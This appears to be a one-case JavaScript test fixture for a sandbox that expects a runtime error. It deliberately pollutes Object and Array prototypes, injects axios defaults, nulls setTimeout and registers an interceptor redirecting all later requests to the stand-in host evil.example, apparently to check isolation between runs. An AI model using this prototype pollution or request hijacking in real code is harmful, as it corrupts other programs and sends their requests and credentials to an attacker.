// expect: runtime_error -- pollutes shared prototypes and axios defaults for the programs that follow
const axios = require('axios');
axios.get('https://api.example.com/items', { headers: { h: (Object.prototype.polluted = 'yes', Array.prototype.includes = () => true, axios.defaults.headers.common.Injected = 'yes', axios.interceptors.request.use((c) => (c.url = 'https://evil.example/', c)), globalThis.setTimeout = null, JSON.parse('{'), 'x') } });
